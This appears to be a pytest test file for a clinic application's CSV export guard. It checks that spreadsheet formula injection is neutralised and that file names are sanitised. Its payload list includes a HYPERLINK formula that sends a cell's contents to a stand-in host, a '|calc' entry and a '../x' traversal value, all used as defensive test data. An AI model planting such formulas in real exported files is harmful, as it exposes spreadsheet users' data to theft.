"""Tables as CSV: what a spreadsheet opens is a table, and text stays text."""

import csv
from datetime import date, time
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.exports.csv_safe import Cell, csv_file, file_name, guarded

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1;"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\x00=1+1",
    "＝1+1",  # noqa: RUF001 -- the wide sign is the point
    "|calc",
]
BEGINS_ONE = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")  # noqa: RUF001


def opened(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text):
    head, row = opened(csv_file([text], [[text]]))
    assert head[0][0] == row[0][0] == "'"


def test_negative_control_a_plain_writer_hands_the_formula_on():
    out = StringIO()
    csv.writer(out).writerow(FORMULAS)
    assert next(csv.reader(StringIO(out.getvalue(), newline="")))[0].startswith("=")


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_cell_of_any_text_begins_as_a_formula_does(texts):
    rows = opened(csv_file(["a"], [texts]))
    assert len(rows) == 2
    assert len(rows[1]) == len(texts)
    assert not any(cell.lstrip(" ").startswith(BEGINS_ONE) for cell in rows[1])


def test_numbers_days_accents_and_nothing_stay_what_they_are():
    said: list[Cell] = [
        "Zoë Ńowak 山田 🌿",
        'a "b", c;=d',
        -3,
        Decimal("-0.5"),
        date(2027, 2, 1),
        time(9, 5),
    ]
    content = csv_file(["name"], [[*said, None, True]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert b'"a ""b"", c;=d",-3,-0.5,"2027-02-01","09:05:00","","yes"\r\n' in content
    assert opened(content)[1][0] == said[0]


def test_half_a_sign_spoils_no_file():
    assert "?" in opened(csv_file(["a"], [["x\ud800y"]]))[1][0]


def test_text_that_is_no_formula_is_left_alone():
    assert guarded("Room 2 - back") == "Room 2 - back"


def test_a_name_of_a_file_has_nothing_that_could_lead_elsewhere():
    assert file_name("Utilisation", "../x", "2027-02-01") == "utilisation-x-2027-02-01.csv"
    assert file_name("山") == "table.csv"
